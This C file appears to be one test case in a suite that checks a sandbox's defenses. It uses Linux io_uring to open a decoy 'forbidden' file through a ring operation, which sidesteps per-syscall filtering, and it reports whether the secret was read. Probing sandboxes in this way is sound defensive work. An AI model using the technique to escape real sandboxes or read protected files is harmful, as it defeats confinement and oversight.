/* A16: io_uring, whose operations are no system calls: a ring that opens what nobody is asked about. */
/* Walls: row-io_uring_setup */
#include "attack.h"
#include <linux/io_uring.h>

static void *mapped(int ring, uint64_t at, size_t size)
{
    void *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, (off_t)at);
    CHECK(memory != MAP_FAILED);
    return memory;
}

int main(void)
{
    begin();
    struct io_uring_params parameters = {0};
    const unsigned int ways[] = {IORING_SETUP_SQPOLL, 0};
    long ring = -1;
    for (size_t i = 0; i < 2; i++) {
        parameters = (struct io_uring_params){.flags = ways[i]};
        ring = syscall(SYS_io_uring_setup, 4, &parameters);
        GOT_IF(ring >= 0, "a ring with flags %#x\n", ways[i]);
    }
    if (ring < 0) {
        for (int fd = 0; fd < 64; fd++)
            GOT_IF(syscall(SYS_io_uring_enter, fd, 0, 0, 0, NULL, 0) >= 0, "a ring that was inherited\n");
        return 0;
    }
    char *entries = mapped((int)ring, IORING_OFF_SQ_RING, parameters.sq_off.array + 16);
    char *results = mapped((int)ring, IORING_OFF_CQ_RING, parameters.cq_off.cqes + 8 * sizeof(struct io_uring_cqe));
    struct io_uring_sqe *entry = mapped((int)ring, IORING_OFF_SQES, 4 * sizeof *entry);
    memset(entry, 0, sizeof *entry);
    entry->opcode = IORING_OP_OPENAT;
    entry->fd = AT_FDCWD;
    entry->addr = (uintptr_t)decoy("ATTACK_FORBIDDEN");
    *(unsigned int *)(entries + parameters.sq_off.array) = 0;
    atomic_store((atomic_uint *)(entries + parameters.sq_off.tail), 1);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) == 1) {
        struct io_uring_cqe *result = (struct io_uring_cqe *)(results + parameters.cq_off.cqes);
        GOT_IF(holds_secret(result->res), "the secret by an operation of a ring\n");
    }
    return 0;
}
